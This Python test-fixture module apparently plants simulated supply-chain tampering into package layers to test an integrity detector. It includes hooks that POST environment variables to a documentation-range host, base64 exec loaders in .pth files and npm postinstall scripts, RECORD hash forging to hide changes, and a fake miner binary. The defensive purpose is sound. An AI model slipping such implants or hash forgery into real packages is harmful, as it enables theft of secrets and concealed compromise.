"""What is planted into clean layers, one thing at a time. Payloads are inert: documentation addresses, nothing that is ever run.

Each plant changes a copy of a layer's files and gives the paths that must be told of; None where the layer has no place for it.
"""

import base64
import csv
import hashlib
import io
import json
import py_compile
import random
import struct
import tempfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple


class Item(NamedTuple):
    """One file of a layer."""

    content: bytes
    mode: int = 0o644
    is_link: bool = False


Layer = dict[str, Item]
Plant = Callable[[Layer, random.Random], set[str] | None]
WHERE = "203.0.113.7"
HOOK = f"""

import json as _j, os as _o, urllib.request as _u
def _report(*_):
    try:
        _u.urlopen(_u.Request("http://{WHERE}/c", data=_j.dumps(dict(_o.environ)).encode()), timeout=1)
    except Exception:
        pass
""".encode()
LOADER = base64.b64encode(zlib.compress(b"print('inert')")).decode()


def _modules(layer: Layer, end: str = ".py") -> list[str]:
    return sorted(
        path
        for path, item in layer.items()
        if path.endswith(end) and len(item.content) > 200 and "/tests/" not in path and "/test/" not in path and not item.is_link
    )


def _record_of(layer: Layer, path: str) -> str | None:
    """Give the RECORD that lists a file."""
    name = path.removeprefix("python/")
    return next((one for one in layer if one.endswith(".dist-info/RECORD") and f"{name},".encode() in layer[one].content), None)


def _rewrite(layer: Layer, record: str, path: str, *, hashed: bool = True, added: bool = False) -> None:
    """Make a RECORD agree with a file that was changed."""
    name, content = path.removeprefix("python/"), layer[path].content
    digest = "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode() if hashed else ""
    rows = [row for row in csv.reader(layer[record].content.decode().splitlines()) if row and (added or row[0] != name)]
    rows.append([name, digest, str(len(content)) if hashed else ""])
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    layer[record] = layer[record]._replace(content=text.getvalue().encode())


def _append(layer: Layer, path: str, content: bytes) -> None:
    layer[path] = layer[path]._replace(content=layer[path].content + content)


# --- Python ---------------------------------------------------------------------------------------------------------------


def edited_module(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice(_modules(layer))
    _append(layer, path, HOOK)
    return {path}


def comment_only(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice(_modules(layer))
    _append(layer, path, b"\n# touched\n")
    return {path}


def pth_loader(layer: Layer, _: random.Random) -> set[str] | None:
    layer["python/zz_boot.pth"] = Item(f"import zlib,base64;exec(zlib.decompress(base64.b64decode('{LOADER}')))\n".encode())
    return {"python/zz_boot.pth"}


def new_module(layer: Layer, rng: random.Random) -> set[str] | None:
    folder = rng.choice(_modules(layer)).rpartition("/")[0]
    path = f"{folder}/_compat_{rng.randrange(999)}.py"
    layer[path] = Item(f"import base64 as b\nc = b.b64decode('{base64.b64encode(b'print(1)').decode()}')\nexec(c)\n".encode())
    return {path}


def deleted_file(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([path for path in _modules(layer) if not path.endswith("__init__.py")])
    del layer[path]
    return {path}


def record_removed(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([path for path in _modules(layer) if _record_of(layer, path)])
    record = _record_of(layer, path)
    assert record  # noqa: S101 - chosen so
    del layer[record]
    _append(layer, path, HOOK)
    return {record}


def row_removed(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([path for path in _modules(layer) if _record_of(layer, path) and path.count("/") > 1])
    record = _record_of(layer, path)
    assert record  # noqa: S101 - chosen so
    name = f"{path.removeprefix('python/')},".encode()
    lines = [line for line in layer[record].content.splitlines() if not line.startswith(name)]
    layer[record] = layer[record]._replace(content=b"\n".join(lines))
    _append(layer, path, HOOK)
    return {path}


def sitecustomize(layer: Layer, _: random.Random) -> set[str] | None:
    layer["python/sitecustomize.py"] = Item(b"import os\nos.environ.setdefault('X', '1')\n")
    return {"python/sitecustomize.py"}


def hides_json(layer: Layer, _: random.Random) -> set[str] | None:
    layer["python/json.py"] = Item(b"def loads(text):\n    return {}\n")
    return {"python/json.py"}


def forged_record(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([path for path in _modules(layer) if _record_of(layer, path)])
    record = _record_of(layer, path)
    _append(layer, path, HOOK)
    assert record  # noqa: S101 - chosen so
    _rewrite(layer, record, path)
    return {path}


def forged_new_module(layer: Layer, rng: random.Random) -> set[str] | None:
    beside = rng.choice([path for path in _modules(layer) if _record_of(layer, path)])
    record = _record_of(layer, beside)
    path = f"{beside.rpartition('/')[0]}/_speedups_{rng.randrange(999)}.py"
    layer[path] = Item(b"VALUE = 1\n")
    assert record  # noqa: S101 - chosen so
    _rewrite(layer, record, path, added=True)
    return {path}


def forged_without_hash(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([path for path in _modules(layer) if _record_of(layer, path)])
    record = _record_of(layer, path)
    _append(layer, path, b"\nVALUE = 1\n")
    assert record  # noqa: S101 - chosen so
    _rewrite(layer, record, path, hashed=False)
    return {path}


def forged_wheel(layer: Layer, rng: random.Random) -> set[str] | None:
    """Also change WHEEL, so that no published wheel has it."""
    path = rng.choice([path for path in _modules(layer) if _record_of(layer, path)])
    record = _record_of(layer, path)
    assert record  # noqa: S101 - chosen so
    wheel = record.replace("/RECORD", "/WHEEL")
    if b"none-any" not in layer[wheel].content:
        return None
    _append(layer, path, HOOK)
    _append(layer, wheel, b"Build: 1\n")
    _rewrite(layer, record, path)
    _rewrite(layer, record, wheel)
    return {path}


def forged_script(layer: Layer, rng: random.Random) -> set[str] | None:
    scripts = [path for path in sorted(layer) if path.startswith("python/bin/") and b"sys.exit" in layer[path].content]
    if not scripts:
        return None
    path = rng.choice(scripts)
    listed = f"../../{path.removeprefix('python/')},".encode()
    record = next((one for one in layer if one.endswith("/RECORD") and listed in layer[one].content), None)
    if record is None:
        return None
    _append(layer, path, b"\nimport os\nos.system('id')\n")
    digest = base64.urlsafe_b64encode(hashlib.sha256(layer[path].content).digest()).rstrip(b"=").decode()
    lines = layer[record].content.decode().splitlines()
    lines = [f"{listed.decode()}sha256={digest},9" if line.startswith(listed.decode()) else line for line in lines]
    layer[record] = layer[record]._replace(content="\n".join(lines).encode())
    return {path}


def stale_pyc(layer: Layer, rng: random.Random) -> set[str] | None:
    """Compile a module with something added, and write the size and time of the clean source into its header."""
    path = rng.choice(_modules(layer))
    clean = layer[path].content
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder, "module.py")
        source.write_bytes(clean + HOOK)
        try:
            compiled = Path(py_compile.compile(str(source), doraise=True) or "").read_bytes()
        except py_compile.PyCompileError:
            return None
    header = compiled[:8] + struct.pack("<II", 0, len(clean))
    above, _, name = path.rpartition("/")
    target = f"{above}/__pycache__/{name[:-3]}.cpython-311.pyc"
    layer[target] = Item(header + compiled[16:])
    return {target}


def secret_file(layer: Layer, rng: random.Random) -> set[str] | None:
    folder = rng.choice(_modules(layer)).rpartition("/")[0]
    path = f"{folder}/.aws_creds.py"
    made = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", k=16))
    layer[path] = Item(f"AWS_ACCESS_KEY_ID = '{'AK' + 'IA'}{made}'\n".encode())
    return {path}


def modified_library(layer: Layer, rng: random.Random) -> set[str] | None:
    found = _modules(layer, ".so")
    if not found:
        return None
    path = rng.choice(found)
    content = bytearray(layer[path].content)
    content[len(content) // 2] ^= 0xFF
    layer[path] = layer[path]._replace(content=bytes(content))
    return {path}


# --- any layer ------------------------------------------------------------------------------------------------------------


def elf_miner(layer: Layer, rng: random.Random) -> set[str] | None:
    body = b"\x7fELF\x02\x01\x01" + bytes(57) + b"stratum+tcp://pool.invalid:3333\0randomx\0xmrig\0" + rng.randbytes(60_000)
    layer["bin/kworkerd"] = Item(body, 0o755)
    return {"bin/kworkerd"}


def extension(layer: Layer, _: random.Random) -> set[str] | None:
    layer["extensions/telemetry"] = Item(b"#!/bin/sh\nexec sleep 1000\n", 0o755)
    return {"extensions/telemetry"}


# --- Node -----------------------------------------------------------------------------------------------------------------


def _scripts(layer: Layer) -> list[str]:
    return [path for path in _modules(layer, ".js") if "/node_modules/" in path and "/.bin/" not in path]


def npm_appended(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice(_scripts(layer))
    _append(
        layer,
        path,
        f";try{{require('https').request({{host:'{WHERE}',method:'POST',path:'/c'}}).end(JSON.stringify(process.env))}}catch(e){{}}\n".encode(),
    )
    return {path}


def npm_comment(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice(_scripts(layer))
    _append(layer, path, b"\n// touched\n")
    return {path}


def _manifests(layer: Layer) -> list[str]:
    found = [path for path in sorted(layer) if path.endswith("/package.json") and "/node_modules/" in path]
    return [path for path in found if b'"version"' in layer[path].content and b'"name"' in layer[path].content]


def npm_postinstall(layer: Layer, rng: random.Random) -> set[str] | None:
    candidates = [path for path in _manifests(layer) if not json.loads(layer[path].content).get("scripts", {}).get("postinstall")]
    path = rng.choice(candidates)
    about = json.loads(layer[path].content)
    about.setdefault("scripts", {})["postinstall"] = "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\""
    layer[path] = layer[path]._replace(content=json.dumps(about, indent=2).encode())
    return {path}


def npm_plain_postinstall(layer: Layer, rng: random.Random) -> set[str] | None:
    candidates = [path for path in _manifests(layer) if not json.loads(layer[path].content).get("scripts", {}).get("postinstall")]
    path = rng.choice(candidates)
    about = json.loads(layer[path].content)
    about.setdefault("scripts", {})["postinstall"] = "node lib/setup.js"
    layer[path] = layer[path]._replace(content=json.dumps(about, indent=2).encode())
    return {path}


def npm_new_module(layer: Layer, rng: random.Random) -> set[str] | None:
    path = f"{rng.choice(_manifests(layer)).rpartition('/')[0]}/setup.js"
    if path in layer:
        return None
    layer[path] = Item(b"module.exports = 1\n")
    return {path}


def npm_new_package(layer: Layer, _: random.Random) -> set[str] | None:
    """Another package beside the others; without a lock nobody can know that it was not installed."""
    if not any(path.endswith((".package-lock.json", "/lock.yaml")) for path in layer) or "nodejs/node_modules/.pnpm/lock.yaml" in layer:
        return None
    path = "nodejs/node_modules/left-pad-utils/package.json"
    layer[path] = Item(b'{"name": "left-pad-utils", "version": "1.0.0"}')
    return {path}


def npm_deleted(layer: Layer, rng: random.Random) -> set[str] | None:
    path = rng.choice([one for one in _scripts(layer) if not {"example", "examples", "docs", "bench", "bin"} & set(one.split("/"))])
    del layer[path]
    return {path}


def pnpm_swapped(layer: Layer, rng: random.Random) -> set[str] | None:
    links = [path for path, item in sorted(layer.items()) if item.is_link and b".pnpm/" in item.content and "/.pnpm/" not in path]
    if len(links) < 2:
        return None
    path, other = rng.sample(links, 2)
    layer[path] = layer[other]
    return {path}


def pnpm_swapped_inside(layer: Layer, rng: random.Random) -> set[str] | None:
    links = [path for path, item in sorted(layer.items()) if item.is_link and "/.pnpm/" in path and b"../" in item.content]
    links = [path for path in links if "/.pnpm/node_modules/" not in path and "@" not in path.rpartition("/node_modules/")[2]]
    links = [path for path in links if "/.bin/" not in path and path.count("/node_modules/") == 2]
    if len(links) < 2:
        return None
    path, other = rng.sample(links, 2)
    layer[path] = layer[other]
    return {path}


PYTHON: dict[str, Plant] = {
    "edited module": edited_module,
    "only a comment": comment_only,
    "`.pth` loader": pth_loader,
    "new module": new_module,
    "deleted file": deleted_file,
    "sitecustomize": sitecustomize,
    "`json.py` hides json": hides_json,
    "stale `.pyc`": stale_pyc,
    "credentials in a file": secret_file,
    "native library": modified_library,
    "hash taken out of RECORD": forged_without_hash,
    "row taken out of RECORD": row_removed,
    "RECORD taken away": record_removed,
    "file and RECORD": forged_record,
    "file, RECORD and WHEEL": forged_wheel,
    "new module and RECORD": forged_new_module,
    "script and RECORD": forged_script,
}
NODE: dict[str, Plant] = {
    "npm module appended": npm_appended,
    "npm postinstall": npm_postinstall,
    "npm postinstall, plain": npm_plain_postinstall,
    "npm only a comment": npm_comment,
    "npm new module": npm_new_module,
    "npm new package": npm_new_package,
    "npm deleted module": npm_deleted,
    "pnpm link swapped": pnpm_swapped,
    "pnpm link inside swapped": pnpm_swapped_inside,
}
ANY: dict[str, Plant] = {"ELF with a miner": elf_miner, "extension": extension}
